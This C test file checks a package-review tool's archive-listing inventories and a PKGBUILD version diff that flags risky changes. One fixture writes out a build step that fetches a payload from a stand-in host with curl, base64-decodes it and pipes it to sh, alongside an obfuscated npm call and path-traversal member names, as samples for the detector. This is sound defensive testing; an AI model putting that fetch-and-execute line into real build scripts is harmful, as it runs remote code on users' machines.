/*
 * test_listing.c - issue 20: inventories made from an archive's member
 * listing (same digest as the directory, validation of the untrusted
 * listing, reads bound to the listing's digests, snapshots built from the
 * members) and the version diff over token documents (engine/pkgdiff.c).
 */
#include "t.h"

#include <jansson.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/buf.h"
#include "base/digest.h"
#include "content/archive_target.h"
#include "engine/pkgdiff.h"
#include "inventory/inventory.h"
#include "inventory/snapshot.h"

struct src {
        const char *names[4];
        const char *data[4];
        bool        tamper;     /* hand back other bytes than the listing says */
        unsigned    reads;
};

static bool src_read(void *ctx, const char *path, size_t max, prc_buf *out, prc_err *err)
{
        struct src *s = ctx;

        s->reads++;
        for (int i = 0; i < 4 && s->names[i] != NULL; i++)
                if (strcmp(s->names[i], path) == 0) {
                        const char *d = s->tamper ? "evil bytes" : s->data[i];
                        if (strlen(d) > max)
                                return prc_err_set(err, PRC_E_INV_MISMATCH, "too long");
                        return prc_buf_put(out, d, strlen(d), err);
                }
        return prc_err_set(err, PRC_E_INV_NO_SUCH_ENTRY, "no such member");
}

static void hex_of(const char *s, char out[PRC_SHA256_HEX + 1])
{
        prc_err e;

        prc_err_init(&e);
        T_ASSERT(prc_sha256_hex_once(s, strlen(s), out, &e));
}

static void test_listing__digest_equals_the_directory_inventory(void)
{
        const char *dir = t_tmpdir();
        char h1[PRC_SHA256_HEX + 1], h2[PRC_SHA256_HEX + 1];
        struct src s = { { "PKGBUILD", "sub/x.patch", NULL }, { "pkgname=a\n", "--- a\n", NULL }, false, 0 };
        prc_inv_member m[3];
        prc_inventory *a = NULL, *b = NULL;
        prc_err e;

        char sub[4096];

        snprintf(sub, sizeof(sub), "%s/sub", dir);
        T_ASSERT(mkdir(sub, 0700) == 0);
        t_write(dir, "PKGBUILD", "pkgname=a\n", 10);
        t_write(dir, "sub/x.patch", "--- a\n", 6);
        T_ASSERT(chmod(t_write(dir, "run.sh", "#!/bin/sh\n", 10), 0755) == 0);
        prc_err_init(&e);
        T_ASSERT(prc_inventory_build(dir, NULL, &a, &e));
        hex_of("pkgname=a\n", h1);
        hex_of("--- a\n", h2);
        char h3[PRC_SHA256_HEX + 1];
        hex_of("#!/bin/sh\n", h3);
        m[0] = (prc_inv_member){ "sub/x.patch", PRC_INV_FILE, 6, h2, false, true };
        m[1] = (prc_inv_member){ "PKGBUILD", PRC_INV_FILE, 10, h1, false, false };
        m[2] = (prc_inv_member){ "run.sh", PRC_INV_FILE, 10, h3, true, false };
        T_ASSERT(prc_inventory_from_listing(m, 3, NULL, 0, src_read, &s, &b, &e));
        T_NOERR(e);
        T_ASSERT(prc_inventory_is_listing(b) && !prc_inventory_is_listing(a));
        T_EQ_STR(prc_inventory_digest(b), prc_inventory_digest(a));
        T_EQ_INT(prc_inventory_root_fd(b), -1);
        prc_inventory_free(a);
        prc_inventory_free(b);
}

static void test_listing__invalid_listings_are_refused(void)
{
        char h[PRC_SHA256_HEX + 1];
        prc_inv_member m[2];
        prc_inventory *inv = NULL;
        prc_err e;

        hex_of("x", h);
        m[0] = (prc_inv_member){ "../x", PRC_INV_FILE, 1, h, false, false };
        prc_err_init(&e);
        T_ASSERT(!prc_inventory_from_listing(m, 1, NULL, 0, src_read, NULL, &inv, &e));
        T_ERR(e, PRC_E_INV_LISTING);
        m[0] = (prc_inv_member){ "a", PRC_INV_FILE, 1, h, false, false };
        m[1] = (prc_inv_member){ "a", PRC_INV_FILE, 1, h, false, false };
        prc_err_init(&e);
        T_ASSERT(!prc_inventory_from_listing(m, 2, NULL, 0, src_read, NULL, &inv, &e));
        T_ERR(e, PRC_E_INV_LISTING);
        m[0] = (prc_inv_member){ "a", PRC_INV_FILE, 1, "not-a-digest", false, false };
        prc_err_init(&e);
        T_ASSERT(!prc_inventory_from_listing(m, 1, NULL, 0, src_read, NULL, &inv, &e));
        T_ERR(e, PRC_E_INV_LISTING);
        T_ASSERT(inv == NULL);
}

static void test_listing__rejected_members_make_it_incomplete(void)
{
        char h[PRC_SHA256_HEX + 1];
        prc_inv_member m[3];
        prc_inv_unrep r[1] = { { "pkg/../../etc/x", "path-dotdot", "file" } };
        prc_inventory *inv = NULL;
        prc_err e;

        hex_of("x", h);
        m[0] = (prc_inv_member){ "a", PRC_INV_FILE, 1, h, false, false };
        m[1] = (prc_inv_member){ ".prc/owned", PRC_INV_FILE, 1, h, false, true };
        m[2] = (prc_inv_member){ ".git/config", PRC_INV_FILE, 1, h, false, true };
        prc_err_init(&e);
        T_ASSERT(prc_inventory_from_listing(m, 3, r, 1, src_read, NULL, &inv, &e));
        T_ASSERT(!prc_inventory_complete(inv));
        T_EQ_INT(prc_inventory_count(inv), 1);
        T_EQ_INT(prc_inventory_excluded_count(inv), 2);
        T_EQ_STR(prc_inventory_excluded(inv, 0), ".git");
        T_EQ_STR(prc_inventory_unrep(inv, 0)->reason, "path-dotdot");
        T_EQ_STR(prc_inventory_unrep(inv, 0)->raw, "pkg/../../etc/x");
        prc_inventory_free(inv);
}

static void test_listing__reads_are_bound_to_the_listed_digest(void)
{
        char h[PRC_SHA256_HEX + 1];
        struct src s = { { "PKGBUILD", NULL }, { "pkgname=a\n", NULL }, false, 0 };
        prc_inv_member m[1];
        prc_inventory *inv = NULL;
        prc_buf b;
        prc_err e;

        hex_of("pkgname=a\n", h);
        m[0] = (prc_inv_member){ "PKGBUILD", PRC_INV_FILE, 10, h, false, false };
        prc_err_init(&e);
        T_ASSERT(prc_inventory_from_listing(m, 1, NULL, 0, src_read, &s, &inv, &e));
        prc_buf_init(&b, 1 << 20);
        T_ASSERT(prc_inventory_read(inv, "PKGBUILD", 1 << 20, &b, &e));
        T_EQ_MEM(b.data, b.len, "pkgname=a\n", 10);
        T_ASSERT(prc_inventory_read_head(inv, "PKGBUILD", 4, &b, &e));
        T_EQ_MEM(b.data, b.len, "pkgn", 4);
        s.tamper = true;
        T_ASSERT(!prc_inventory_read(inv, "PKGBUILD", 1 << 20, &b, &e));
        T_ERR(e, PRC_E_INV_MISMATCH);
        T_EQ_INT(b.len, 0);
        prc_buf_clear(&b);
        prc_inventory_free(inv);
}

static void test_listing__snapshot_is_built_from_the_members(void)
{
        char h1[PRC_SHA256_HEX + 1], h2[PRC_SHA256_HEX + 1], p[4096];
        struct src s = { { "PKGBUILD", "d/run.sh", NULL }, { "pkgname=a\n", "#!/bin/sh\n", NULL }, false, 0 };
        prc_inv_member m[3];
        prc_inventory *inv = NULL;
        prc_snapshot *snap = NULL;
        struct stat st;
        size_t n;
        char *got;
        prc_err e;

        hex_of("pkgname=a\n", h1);
        hex_of("#!/bin/sh\n", h2);
        m[0] = (prc_inv_member){ "PKGBUILD", PRC_INV_FILE, 10, h1, false, false };
        m[1] = (prc_inv_member){ "d/run.sh", PRC_INV_FILE, 10, h2, true, true };
        m[2] = (prc_inv_member){ "l", PRC_INV_SYMLINK, 0, NULL, false, false };
        prc_err_init(&e);
        T_ASSERT(prc_inventory_from_listing(m, 3, NULL, 0, src_read, &s, &inv, &e));
        snprintf(p, sizeof(p), "%s/snap", t_tmpdir());
        T_ASSERT(prc_snapshot_create(inv, p, NULL, &snap, &e));
        T_NOERR(e);
        T_ASSERT(prc_snapshot_seal(snap, &e) && prc_snapshot_verify(snap, &e));
        snprintf(p, sizeof(p), "%s/snap/d/run.sh", t_tmpdir());
        got = t_read(p, &n);
        T_EQ_MEM(got, n, "#!/bin/sh\n", 10);
        free(got);
        T_ASSERT(stat(p, &st) == 0 && (st.st_mode & 0777) == 0500);
        snprintf(p, sizeof(p), "%s/snap/l", t_tmpdir());
        T_ASSERT(lstat(p, &st) != 0);   /* symlinks are not copied, as for a directory */
        prc_snapshot_free(snap);
        /* A source that returns other bytes than the listing: no snapshot, nothing left. */
        s.tamper = true;
        snprintf(p, sizeof(p), "%s/snap2", t_tmpdir());
        T_ASSERT(!prc_snapshot_create(inv, p, NULL, &snap, &e));
        T_ERR(e, PRC_E_INV_MISMATCH);
        T_ASSERT(stat(p, &st) != 0);
        prc_inventory_free(inv);
}

/* ---- pkgdiff over hand-written token documents ---- */

static json_t *pkgbuild(const char *json)
{
        json_error_t je;
        json_t *d = json_loads(json, 0, &je);

        if (d == NULL)
                t_fail(__FILE__, __LINE__, "bad fixture: %s", je.text);
        return d;
}

#define ASSIGN(name, value, line) \
        "{\"name\":\"" name "\",\"static\":true,\"line\":" #line ",\"value\":" value "}"

static json_t *facts_of(const char *doc)
{
        json_t *d = pkgbuild(doc), *un = json_array(), *f;
        prc_err e;

        prc_err_init(&e);
        f = prc_pkgdiff_facts(d, NULL, NULL, un, &e);
        T_NOERR(e);
        json_decref(d);
        json_decref(un);
        return f;
}

static bool has_change(const json_t *res, const char *kind)
{
        const json_t *c;
        size_t i;

        json_array_foreach(json_object_get(res, "changes"), i, c)
                if (strcmp(json_string_value(json_object_get(c, "kind")), kind) == 0)
                        return true;
        return false;
}

static const char old_doc[] = "{\"assignments\":[" ASSIGN("url", "\"https://a.example/x\"", 2) ","
                              ASSIGN("pkgver", "\"1\"", 1) ","
                              ASSIGN("source", "[\"https://a.example/x-1.tar.gz\",\"git+https://g.example/r\"]", 3) ","
                              ASSIGN("sha256sums", "[\"0123\",\"SKIP\"]", 4) "],"
                              "\"functions\":[{\"name\":\"build\",\"line\":5,\"body\":["
                              "{\"line\":6,\"tokens\":[\"make\"]}]}],\"commands\":[]}";

static void test_pkgdiff__identical_versions_have_no_change(void)
{
        json_t *a = facts_of(old_doc), *b = facts_of(old_doc), *r;
        prc_err e;

        prc_err_init(&e);
        r = prc_pkgdiff_compare(a, b, &e);
        T_NOERR(e);
        T_EQ_INT(json_array_size(json_object_get(r, "changes")), 0);
        T_EQ_INT(json_integer_value(json_object_get(r, "risky")), 0);
        json_decref(a);
        json_decref(b);
        json_decref(r);
}

static void test_pkgdiff__hijack_shapes_are_risky(void)
{
        static const char new_doc[] =
                "{\"assignments\":[" ASSIGN("url", "\"https://b.example/x\"", 2) "," ASSIGN("pkgver", "\"2\"", 1) ","
                ASSIGN("source", "[\"https://paste.example/x-2.tar.gz\",\"git+https://g.example/r\"]", 3) ","
                ASSIGN("sha256sums", "[\"SKIP\",\"SKIP\"]", 4) "," ASSIGN("install", "\"x.install\"", 5) "],"
                "\"functions\":[{\"name\":\"build\",\"line\":5,\"body\":["
                "{\"line\":6,\"tokens\":[\"make\"]},"
                "{\"line\":7,\"tokens\":[\"X=$(curl -s https://e.example/p)\"]},"
                "{\"line\":8,\"tokens\":[\"echo\",\"$X\",\"|\",\"base64\",\"-d\",\"|\",\"sh\"]},"
                "{\"line\":9,\"tokens\":[\"'n''p''m'\",\"install\",\"left-pad\"]}]}],\"commands\":[]}";
        json_t *a = facts_of(old_doc), *b = facts_of(new_doc), *r;
        prc_err e;

        prc_err_init(&e);
        r = prc_pkgdiff_compare(a, b, &e);
        T_NOERR(e);
        T_ASSERT(has_change(r, "url-changed"));
        T_ASSERT(has_change(r, "source-host-added"));
        T_ASSERT(has_change(r, "checksum-skip"));
        T_ASSERT(has_change(r, "network-added"));
        T_ASSERT(has_change(r, "exec-added"));
        T_ASSERT(has_change(r, "package-manager-added"));
        T_ASSERT(has_change(r, "install-script-added"));
        T_ASSERT(has_change(r, "version-changed"));
        T_ASSERT(json_integer_value(json_object_get(r, "risky")) >= 7);
        json_decref(r);
        /* The other way round: the checksum array is still there, nothing new. */
        r = prc_pkgdiff_compare(b, a, &e);
        T_ASSERT(!has_change(r, "network-added") && !has_change(r, "checksum-skip"));
        json_decref(a);
        json_decref(b);
        json_decref(r);
}

static void test_pkgdiff__removed_checksum_array_and_unanalyzed_files(void)
{
        static const char new_doc[] =
                "{\"assignments\":[" ASSIGN("url", "\"https://a.example/x\"", 2) "," ASSIGN("pkgver", "\"1\"", 1) ","
                ASSIGN("source", "[\"https://a.example/x-1.tar.gz\",\"git+https://g.example/r\"]", 3) ","
                ASSIGN("b2sums", "[\"ab\",\"SKIP\"]", 4) "],\"functions\":[],\"commands\":[]}";
        json_t *a = facts_of(old_doc), *d = pkgbuild(new_doc), *un, *b, *r;
        prc_err e;

        un = json_pack("[{s:s,s:s,s:s}]", "path", "x.install", "class", "shell-nesting-limit", "reason", "deep");
        prc_err_init(&e);
        b = prc_pkgdiff_facts(d, NULL, NULL, un, &e);
        r = prc_pkgdiff_compare(a, b, &e);
        T_NOERR(e);
        T_ASSERT(has_change(r, "checksum-removed"));
        T_ASSERT(has_change(r, "unanalyzed"));
        T_ASSERT(!has_change(r, "checksum-skip"));      /* the source is pinned by b2sums */
        json_decref(a);
        json_decref(b);
        json_decref(d);
        json_decref(un);
        json_decref(r);
}

#define APPEND(name, value, line) \
        "{\"name\":\"" name "\",\"static\":true,\"append\":true,\"line\":" #line ",\"value\":" value "}"
#define DYNAMIC(name, line) "{\"name\":\"" name "\",\"static\":false,\"line\":" #line "}"

/* The facts' source entries, "index@line=source" joined by spaces. */
static void sources_of(const json_t *f, char *out, size_t cap)
{
        const json_t *s;
        size_t i, o = 0;

        out[0] = '\0';
        json_array_foreach(json_object_get(f, "sources"), i, s)
                o += (size_t)snprintf(out + o, cap - o, "%s%s%" JSON_INTEGER_FORMAT "@%" JSON_INTEGER_FORMAT "=%s%s",
                                      i ? " " : "", json_string_value(json_object_get(s, "path")),
                                      json_integer_value(json_object_get(s, "index")),
                                      json_integer_value(json_object_get(s, "line")),
                                      json_string_value(json_object_get(s, "source")),
                                      json_is_true(json_object_get(s, "checked")) ? "+" : "");
}

/* An array assigned twice is what bash leaves: the last assignment, the earlier one's hosts gone. */
static void test_pkgdiff__array_assigned_twice_keeps_the_last(void)
{
        static const char doc[] = "{\"assignments\":["
                                  ASSIGN("source", "[\"https://a.example/x.tgz\",\"local.patch\"]", 3) ","
                                  ASSIGN("sha256sums", "[\"0123\",\"4567\"]", 4) ","
                                  ASSIGN("source", "[\"https://b.example/y.tgz\"]", 7) ","
                                  ASSIGN("sha256sums", "[\"SKIP\"]", 8) ","
                                  ASSIGN("url", "\"https://a.example\"", 1) ","
                                  ASSIGN("url", "\"https://b.example\"", 9) ","
                                  ASSIGN("install", "\"a.install\"", 2) ","
                                  ASSIGN("install", "\"b.install\"", 10) "],"
                                  "\"functions\":[],\"commands\":[]}";
        json_t *f = facts_of(doc);
        char got[512];

        sources_of(f, got, sizeof(got));
        T_EQ_STR(got, "PKGBUILD0@7=https://b.example/y.tgz");
        T_ASSERT(json_object_get(json_object_get(f, "hosts"), "a.example") == NULL);
        T_EQ_INT(json_integer_value(json_object_get(json_object_get(json_object_get(f, "hosts"), "b.example"),
                                                    "line")), 7);
        T_EQ_INT(json_integer_value(json_object_get(json_object_get(json_object_get(f, "checksum_arrays"),
                                                                    "sha256sums"), "line")), 8);
        T_EQ_STR(json_string_value(json_object_get(f, "url")), "https://b.example");
        T_EQ_STR(json_string_value(json_object_get(json_object_get(f, "install"), "declared")), "b.install");
        json_decref(f);
}

/* += appends (each value keeps its line); name=word sets element 0 of an array; a value not static is not seen. */
static void test_pkgdiff__appends_extend_and_dynamic_values_are_not_evaluated(void)
{
        static const char doc[] = "{\"assignments\":["
                                  APPEND("source", "[\"https://a.example/x.tgz\"]", 2) ","
                                  ASSIGN("sha256sums", "[\"0123\"]", 3) ","
                                  APPEND("source", "[\"https://b.example/y.tgz\",\"z.patch\"]", 5) ","
                                  APPEND("sha256sums", "[\"SKIP\",\"89ab\"]", 6) ","
                                  DYNAMIC("source", 7) ","
                                  ASSIGN("source_x86_64", "[\"https://c.example/c\",\"https://d.example/d\"]", 8) ","
                                  ASSIGN("source_x86_64", "\"https://e.example/e\"", 9) ","
                                  ASSIGN("source_", "[\"https://f.example/f\"]", 10) ","
                                  ASSIGN("pkgver", "\"1\"", 11) "," APPEND("pkgver", "\".2\"", 12) "],"
                                  "\"functions\":[],\"commands\":[]}";
        json_t *f = facts_of(doc);
        char got[512];

        sources_of(f, got, sizeof(got));
        T_EQ_STR(got, "PKGBUILD0@2=https://a.example/x.tgz+ PKGBUILD1@5=https://b.example/y.tgz "
                      "PKGBUILD2@5=z.patch+ PKGBUILD0@9=https://e.example/e PKGBUILD1@8=https://d.example/d");
        T_ASSERT(json_object_get(json_object_get(f, "hosts"), "c.example") == NULL);
        T_ASSERT(json_object_get(json_object_get(f, "hosts"), "f.example") == NULL);   /* source_ is no array */
        T_EQ_STR(json_string_value(json_object_get(f, "version")), "1.2");
        json_decref(f);
}

/* The fuzz seed's shape: the same array twice, with the .SRCINFO too; the version against itself is clean. */
static void test_pkgdiff__version_with_an_array_assigned_twice_is_clean_against_itself(void)
{
        static const char doc[] = "{\"assignments\":["
                                  ASSIGN("source", "[\"https://a.example/x.tgz\",\"git+https://g.example/r\"]", 3) ","
                                  ASSIGN("source", "[\"https://a.example/x.tgz\",\"git'+https://g.example/r\"]", 4) ","
                                  ASSIGN("sha256sums", "[\"SKIP\",\"SKIP\"]", 5) "],"
                                  "\"functions\":[],\"commands\":[]}";
        json_t *d = pkgbuild(doc), *si, *un = json_array(), *f, *r;
        char got[512];
        prc_err e;

        si = json_pack("{s:{s:I,s:{s:[s]}}}", "pkgbase", "line", (json_int_t)1, "fields", "source",
                       "https://a.example/x.tgz");
        prc_err_init(&e);
        f = prc_pkgdiff_facts(d, si, NULL, un, &e);
        T_NOERR(e);
        sources_of(f, got, sizeof(got));
        T_EQ_STR(got, "PKGBUILD0@4=https://a.example/x.tgz PKGBUILD1@4=git'+https://g.example/r "
                      ".SRCINFO0@1=https://a.example/x.tgz");
        r = prc_pkgdiff_compare(f, f, &e);
        T_NOERR(e);
        T_EQ_INT(json_integer_value(json_object_get(r, "risky")), 0);
        json_decref(r);
        json_decref(f);
        json_decref(si);
        json_decref(un);
        json_decref(d);
}

/* Hooks are matched by function name, also when a long script path cuts the fact's key short (fuzz find). */
static void test_pkgdiff__install_hooks_match_by_function_whatever_the_path(void)
{
        char longpath[700];
        json_t *hook = pkgbuild("{\"functions\":[{\"name\":\"post_install\",\"line\":1,\"body\":[]}],"
                                "\"commands\":[]}");
        json_t *other = pkgbuild("{\"functions\":[{\"name\":\"pre_remove\",\"line\":1,\"body\":[]}],"
                                 "\"commands\":[]}");
        json_t *un = json_array(), *i1, *i2, *i3, *a, *b, *c, *r;
        prc_err e;

        memset(longpath, 'x', sizeof(longpath) - 1);
        longpath[sizeof(longpath) - 1] = '\0';
        i1 = json_pack("{s:O}", longpath, hook);
        i2 = json_pack("{s:O}", "renamed.install", hook);
        i3 = json_pack("{s:O}", "renamed.install", other);
        prc_err_init(&e);
        a = prc_pkgdiff_facts(NULL, NULL, i1, un, &e);
        b = prc_pkgdiff_facts(NULL, NULL, i2, un, &e);
        c = prc_pkgdiff_facts(NULL, NULL, i3, un, &e);
        T_NOERR(e);
        r = prc_pkgdiff_compare(a, a, &e);
        T_EQ_INT(json_integer_value(json_object_get(r, "risky")), 0);
        json_decref(r);
        r = prc_pkgdiff_compare(a, b, &e);      /* the same hook in a script of another name */
        T_ASSERT(!has_change(r, "install-hook-added"));
        json_decref(r);
        r = prc_pkgdiff_compare(b, c, &e);
        T_ASSERT(has_change(r, "install-hook-added"));
        T_NOERR(e);
        json_decref(r);
        json_decref(a);
        json_decref(b);
        json_decref(c);
        json_decref(i1);
        json_decref(i2);
        json_decref(i3);
        json_decref(hook);
        json_decref(other);
        json_decref(un);
}

static void test_pkgdiff__source_host_parsing(void)
{
        char h[256];

        T_ASSERT(prc_pkgdiff_source_host("x.tgz::https://User:pw@GitHub.com:8443/a/b", h, sizeof(h)));
        T_EQ_STR(h, "github.com:8443");
        T_ASSERT(prc_pkgdiff_source_host("git+https://gitlab.com/x.git#tag=v1", h, sizeof(h)));
        T_EQ_STR(h, "gitlab.com");
        T_ASSERT(!prc_pkgdiff_source_host("local.patch", h, sizeof(h)));
}

/* ---- the walk reply as a listing (content/archive_target.c), without a worker ---- */

static prc_archive_target *target_of(const char *json, prc_err *e)
{
        json_t *d = pkgbuild(json);
        prc_archive_target *t = NULL;

        prc_err_init(e);
        if (!prc_archive_target_from_listing(d, &t, e))
                t = NULL;
        json_decref(d);
        return t;
}

#define SHA_A "\"sha256\":\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\""

static void test_listing__single_top_directory_is_the_package_root(void)
{
        prc_err e;
        prc_inventory *inv = NULL;
        prc_archive_target *t = target_of(
                "{\"format\":\"tar.gz\",\"members\":["
                "{\"index\":0,\"path\":\"demo\",\"type\":\"dir\",\"size\":0,\"mode\":493},"
                "{\"index\":1,\"path\":\"demo/PKGBUILD\",\"type\":\"file\",\"size\":3,\"mode\":493," SHA_A "},"
                "{\"index\":2,\"path\":\"demo/copy\",\"type\":\"hardlink\",\"link\":\"./demo/PKGBUILD\","
                "\"size\":0,\"mode\":420},"
                "{\"index\":3,\"path\":\"../x\",\"type\":\"file\",\"size\":1,\"mode\":420,"
                "\"rejected\":\"path-dotdot\"}],\"rejected\":1}", &e);
        json_t *j;

        T_NOERR(e);
        T_EQ_STR(prc_archive_target_root(t), "demo");
        T_ASSERT(prc_archive_target_inventory(t, &inv, &e));
        T_EQ_INT(prc_inventory_count(inv), 2);
        T_EQ_STR(prc_inventory_entry(inv, 0)->path, "PKGBUILD");
        T_ASSERT(prc_inventory_entry(inv, 0)->executable);
        /* The hardlink is a file with its target's size and digest. */
        T_EQ_STR(prc_inventory_entry(inv, 1)->path, "copy");
        T_EQ_INT(prc_inventory_entry(inv, 1)->size, 3);
        T_EQ_STR(prc_inventory_entry(inv, 1)->sha256, prc_inventory_entry(inv, 0)->sha256);
        T_ASSERT(!prc_inventory_complete(inv));
        T_EQ_STR(prc_inventory_unrep(inv, 0)->reason, "path-dotdot");
        j = prc_archive_target_json(t);
        T_EQ_STR(json_string_value(json_object_get(j, "root")), "demo");
        T_EQ_STR(json_string_value(json_object_get(json_array_get(json_object_get(j, "rejected"), 0), "class")),
                 "path-dotdot");
        json_decref(j);
        prc_inventory_free(inv);
        prc_archive_target_free(t);
}

static void test_listing__a_file_at_the_top_means_no_package_root(void)
{
        prc_err e;
        prc_archive_target *t = target_of(
                "{\"format\":\"tar\",\"members\":["
                "{\"index\":0,\"path\":\"PKGBUILD\",\"type\":\"file\",\"size\":3,\"mode\":420," SHA_A "},"
                "{\"index\":1,\"path\":\"PKGBUILD/x\",\"type\":\"file\",\"size\":3,\"mode\":420," SHA_A "}],"
                "\"rejected\":0}", &e);

        T_NOERR(e);
        T_EQ_STR(prc_archive_target_root(t), "");
        prc_archive_target_free(t);
}

static void test_listing__lying_walk_replies_are_refused(void)
{
        static const char *const bad[] = {
                /* a device the walk claims it accepted */
                "{\"format\":\"tar\",\"members\":[{\"index\":0,\"path\":\"d\",\"type\":\"char\",\"size\":0,"
                "\"mode\":420}]}",
                /* a file without a digest */
                "{\"format\":\"tar\",\"members\":[{\"index\":0,\"path\":\"a\",\"type\":\"file\",\"size\":1,"
                "\"mode\":420}]}",
                /* a rejection that is not a class */
                "{\"format\":\"tar\",\"members\":[{\"index\":0,\"path\":\"a\",\"type\":\"file\",\"size\":1,"
                "\"mode\":420,\"rejected\":\"fine\"}]}",
                /* an accepted path that does not normalize */
                "{\"format\":\"tar\",\"members\":[{\"index\":0,\"path\":\"/etc/x\",\"type\":\"file\",\"size\":1,"
                "\"mode\":420," SHA_A "}]}",
                /* a hardlink to nothing earlier */
                "{\"format\":\"tar\",\"members\":[{\"index\":0,\"path\":\"a\",\"type\":\"hardlink\",\"link\":\"b\","
                "\"size\":0,\"mode\":420}]}",
                /* an unknown format */
                "{\"format\":\"zip\",\"members\":[]}",
        };
        for (size_t i = 0; i < PRC_ARRAY_LEN(bad); i++) {
                prc_err e;
                prc_archive_target *t = target_of(bad[i], &e);
                if (t != NULL)
                        t_fail(__FILE__, __LINE__, "case %zu accepted", i);
                T_ERR(e, PRC_E_INV_LISTING);
        }
}

static const prc_test tests[] = {
        T(test_listing__single_top_directory_is_the_package_root),
        T(test_listing__a_file_at_the_top_means_no_package_root),
        T(test_listing__lying_walk_replies_are_refused),
        T(test_listing__digest_equals_the_directory_inventory),
        T(test_listing__invalid_listings_are_refused),
        T(test_listing__rejected_members_make_it_incomplete),
        T(test_listing__reads_are_bound_to_the_listed_digest),
        T(test_listing__snapshot_is_built_from_the_members),
        T(test_pkgdiff__identical_versions_have_no_change),
        T(test_pkgdiff__hijack_shapes_are_risky),
        T(test_pkgdiff__removed_checksum_array_and_unanalyzed_files),
        T(test_pkgdiff__source_host_parsing),
        T(test_pkgdiff__install_hooks_match_by_function_whatever_the_path),
        T(test_pkgdiff__array_assigned_twice_keeps_the_last),
        T(test_pkgdiff__appends_extend_and_dynamic_values_are_not_evaluated),
        T(test_pkgdiff__version_with_an_array_assigned_twice_is_clean_against_itself),
};
PRC_SUITE(listing, tests)
